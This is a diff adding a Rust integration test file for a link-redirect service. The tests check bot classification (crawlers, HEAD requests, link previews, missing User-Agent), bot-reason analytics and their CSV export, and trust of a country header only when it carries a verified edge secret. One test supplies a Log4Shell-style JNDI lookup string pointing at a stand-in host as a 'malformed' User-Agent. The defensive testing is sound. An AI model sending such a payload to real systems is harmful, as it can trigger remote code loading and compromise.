@@ -1,0 +1,231 @@
+//! Trustworthy clicks, end to end: crawlers, HEAD requests, link-preview fetchers and clients
+//! without a User-Agent get no ctx and are counted as bots with their reason (click events,
+//! `groupBy=botReason`, its CSV, the confidence reason); the country header is believed only
+//! from the verified edge.
+
+use std::time::Duration;
+
+use reqwest::{Method, Response};
+use serde_json::{json, Value};
+use tenx_shared::config::{CountryTrust, EDGE_SECRET_HEADER};
+use tenx_shared::http::auth::Role;
+
+use crate::helpers::*;
+
+const IPHONE: &str = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1";
+const GOOGLEBOT: &str = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
+const FACEBOOK_PREVIEW: &str =
+    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)";
+const EDGE_SECRET: &str = "edge-secret-from-ssm-0123456789";
+
+async fn seed(app: &TestApp) {
+    let campaign = json!({
+        "campaignId": "partner-alpha",
+        "goalType": "AFFILIATE_CLICKOUT",
+        "primaryLink": {"slug": "deal", "destinationUrl": "https://shop.example.com/deal"}
+    });
+    let operator = app.as_role("acme", Role::Operator);
+    let resp = operator.create_campaign(&campaign).await;
+    assert_eq!(resp.status(), 201, "{}", resp.text().await.unwrap());
+    let link = json!({
+        "destinationUrl": "https://shop.example.com/deal",
+        "campaignId": "partner-alpha",
+        "routingRules": [{"priority": 10, "destinationUrl": "https://shop.example.com/us",
+            "conditions": {"countryIn": ["US"]}}]
+    });
+    let resp = operator.put_link("deal", &link).await;
+    assert_eq!(resp.status(), 200, "{}", resp.text().await.unwrap());
+}
+
+fn ctx_of(resp: &Response) -> Option<String> {
+    assert_eq!(resp.status(), 302);
+    query_param(header_str(resp.headers(), "location"), "ctx")
+}
+
+/// The `link.clicked` events on the queue, oldest first (only for apps without workers).
+async fn clicks(app: &TestApp) -> Vec<Value> {
+    app.drain_events()
+        .await
+        .into_iter()
+        .filter(|e| e.kind.as_str() == "link.clicked")
+        .map(|e| serde_json::to_value(e).unwrap())
+        .collect()
+}
+
+#[tokio::test]
+async fn crawlers_head_requests_previews_and_blank_agents_are_bots_with_their_reason() {
+    let app = spawn_app_without_workers().await;
+    seed(&app).await;
+    let visits: [(Method, Option<&str>, &str); 5] = [
+        (Method::GET, Some(GOOGLEBOT), "user_agent"),
+        (Method::HEAD, Some(IPHONE), "head_request"),
+        (Method::GET, Some(FACEBOOK_PREVIEW), "link_preview"),
+        (Method::GET, None, "missing_user_agent"),
+        (
+            Method::GET,
+            Some("${jndi:ldap://203.0.113.9/a}"),
+            "malformed_user_agent",
+        ),
+    ];
+    for (method, ua, _) in &visits {
+        let headers: Vec<(&str, &str)> = ua.iter().map(|ua| ("user-agent", *ua)).collect();
+        let resp = app.visit(method.clone(), "acme", "/deal", &headers).await;
+        assert_eq!(ctx_of(&resp), None, "a bot gets no ctx: {method} {ua:?}");
+    }
+    let human = app
+        .visit(Method::GET, "acme", "/deal", &[("user-agent", IPHONE)])
+        .await;
+    assert!(ctx_of(&human).is_some(), "a human gets a ctx");
+    let events = clicks(&app).await;
+    assert_eq!(events.len(), visits.len() + 1);
+    for (event, (_, ua, reason)) in events.iter().zip(&visits) {
+        assert_eq!(event["data"]["bot"], true, "{ua:?}");
+        assert_eq!(event["data"]["botReason"], *reason, "{ua:?}");
+        assert_eq!(event["data"]["segment"], "bot");
+    }
+    let last = &events[visits.len()]["data"];
+    assert_eq!(
+        (last["bot"].clone(), last["botReason"].clone()),
+        (json!(false), Value::Null)
+    );
+}
+
+/// Polls `groupBy=botReason` until the aggregator has counted `clicks`.
+async fn bot_reasons(app: &TestApp, clicks: i64) -> Value {
+    let viewer = app.as_role("acme", Role::Viewer);
+    for _ in 0..300 {
+        let report: Value = viewer
+            .analytics("groupBy=botReason")
+            .await
+            .json()
+            .await
+            .unwrap();
+        if report["totals"]["clicks"] == clicks {
+            return report;
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    panic!("the aggregator never counted {clicks} clicks");
+}
+
+fn row<'a>(report: &'a Value, key: &str) -> &'a Value {
+    report["rows"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|r| r["key"] == key)
+        .unwrap_or_else(|| panic!("no {key} row in {report}"))
+}
+
+#[tokio::test]
+async fn analytics_groups_clicks_by_bot_reason_and_names_the_dominant_one() {
+    let app = spawn_app().await;
+    seed(&app).await;
+    for ua in [FACEBOOK_PREVIEW, FACEBOOK_PREVIEW, GOOGLEBOT, IPHONE] {
+        app.visit(Method::GET, "acme", "/deal", &[("user-agent", ua)])
+            .await;
+    }
+    app.visit(Method::HEAD, "acme", "/deal", &[("user-agent", IPHONE)])
+        .await;
+    let report = bot_reasons(&app, 5).await;
+    assert_eq!(report["groupBy"], "botReason");
+    let counts: Vec<(&str, i64, i64, i64)> = report["rows"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|r| {
+            let n = |k: &str| r[k].as_i64().unwrap();
+            (
+                r["key"].as_str().unwrap(),
+                n("clicks"),
+                n("botClicks"),
+                n("qualifiedClicks"),
+            )
+        })
+        .collect();
+    assert_eq!(
+        counts,
+        [
+            ("link_preview", 2, 2, 0),
+            ("head_request", 1, 1, 0),
+            ("human", 1, 0, 1),
+            ("user_agent", 1, 1, 0),
+        ]
+    );
+    assert_eq!(row(&report, "human")["conversions"], 0);
+
+    let funnel: Value = app
+        .as_role("acme", Role::Viewer)
+        .analytics("funnel=true")
+        .await
+        .json()
+        .await
+        .unwrap();
+    let reason = &funnel["campaigns"][0]["confidenceReasons"][0];
+    assert_eq!(reason["code"], "bot_ratio_high");
+    let message = reason["message"].as_str().unwrap();
+    assert!(message.contains("mostly link_preview: 2"), "{message}");
+
+    let csv = app
+        .as_role("acme", Role::Viewer)
+        .export("groupBy=botReason&format=csv")
+        .await;
+    assert_eq!(csv.status(), 200);
+    let body = csv.text().await.unwrap();
+    let lines: Vec<&str> = body.lines().collect();
+    assert!(
+        lines[0].starts_with("botReason,clicks,qualifiedClicks,botClicks"),
+        "{body}"
+    );
+    assert!(lines[1].starts_with("link_preview,2,0,2"), "{body}");
+}
+
+async fn country_of(app: &TestApp, headers: &[(&str, &str)]) -> (String, String) {
+    let mut all = vec![("user-agent", IPHONE)];
+    all.extend_from_slice(headers);
+    let resp = app.visit(Method::GET, "acme", "/deal", &all).await;
+    let location = header_str(resp.headers(), "location").to_owned();
+    let ctx = ctx_of(&resp).expect("a human's ctx");
+    let context: Value = app.context(&ctx).await.json().await.unwrap();
+    (context["country"].as_str().unwrap().to_owned(), location)
+}
+
+#[tokio::test]
+async fn the_country_header_is_believed_only_with_the_edge_secret() {
+    let mut config = test_config();
+    config.country_trust = CountryTrust::EdgeSecret(EDGE_SECRET.as_bytes().to_vec());
+    let app = spawn_with(config, None).await;
+    seed(&app).await;
+    let spoofed = [("cloudfront-viewer-country", "US")];
+    let (country, location) = country_of(&app, &spoofed).await;
+    assert_eq!(country, "unknown", "a visitor cannot choose its country");
+    assert!(
+        location.starts_with("https://shop.example.com/deal"),
+        "{location}"
+    );
+    let guessed = [
+        ("cloudfront-viewer-country", "US"),
+        (EDGE_SECRET_HEADER, "edge-secret-from-ssm"),
+    ];
+    assert_eq!(country_of(&app, &guessed).await.0, "unknown");
+    let from_edge = [
+        ("cloudfront-viewer-country", "US"),
+        (EDGE_SECRET_HEADER, EDGE_SECRET),
+    ];
+    let (country, location) = country_of(&app, &from_edge).await;
+    assert_eq!(country, "US");
+    assert!(
+        location.starts_with("https://shop.example.com/us"),
+        "{location}"
+    );
+}
+
+#[tokio::test]
+async fn by_default_nobody_chooses_the_country() {
+    let mut config = test_config();
+    config.country_trust = CountryTrust::Never;
+    let app = spawn_with(config, None).await;
+    seed(&app).await;
+    let spoofed = [("cloudfront-viewer-country", "US")];
+    assert_eq!(country_of(&app, &spoofed).await.0, "unknown");
+}
